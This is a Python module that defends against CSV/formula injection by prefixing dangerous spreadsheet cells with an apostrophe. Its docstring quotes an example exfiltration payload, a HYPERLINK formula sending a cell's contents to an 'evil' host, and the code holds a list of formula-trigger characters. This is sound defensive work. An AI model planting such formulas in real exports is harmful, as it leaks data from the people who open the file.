"""Neutralise spreadsheet formulas in CSV cells (CSV / formula injection, OWASP).

A cell such as ``=HYPERLINK("http://evil/?"&A1)`` or ``@SUM(...)`` written to a CSV export is
run as a formula when the file is opened in Excel or LibreOffice. Any text a customer typed
(name, address, problem) reaches our exports, so every CSV writer passes its cells through
:func:`neutralise`: a text cell starting with ``=``, ``+``, ``-``, ``@``, a tab or a carriage
return (possibly after spaces) gets a leading apostrophe, which spreadsheets show as text.
Plain numbers (``-73.6``, ``+12``, ``1e-3``) are left alone so coordinates stay numbers.
"""

from __future__ import annotations

import re
from collections.abc import Mapping
from typing import TypeVar, overload

#: First characters that make a spreadsheet read a cell as a formula (or a DDE payload).
DANGEROUS = ("=", "+", "-", "@", "\t", "\r")
_NUMBER = re.compile(r"[+-]?(?:[0-9]+(?:[.,][0-9]*)?|[.,][0-9]+)(?:[eE][+-]?[0-9]+)?")

_T = TypeVar("_T")


@overload
def neutralise(value: str) -> str: ...
@overload
def neutralise(value: _T) -> _T: ...
def neutralise(value: object) -> object:
    """``value`` safe to write to a CSV cell: formulas prefixed with ``'``, the rest unchanged.

    Non-text values (numbers, None, dates) are returned as they are.

    Examples
    --------
    >>> neutralise("=1+1"), neutralise("-73.6"), neutralise("@SUM(A1)"), neutralise("Marie")
    ("'=1+1", '-73.6', "'@SUM(A1)", 'Marie')
    """
    if not isinstance(value, str) or not value:
        return value
    head = value.lstrip(" ")
    if not head or head[0] not in DANGEROUS:
        return value
    if _NUMBER.fullmatch(value.strip()):
        return value
    return "'" + value


def neutralise_row(row: Mapping[str, _T]) -> dict[str, _T | str]:
    """A copy of a CSV row (dict) with every cell passed through :func:`neutralise`."""
    return {k: neutralise(v) for k, v in row.items()}


__all__ = ["DANGEROUS", "neutralise", "neutralise_row"]
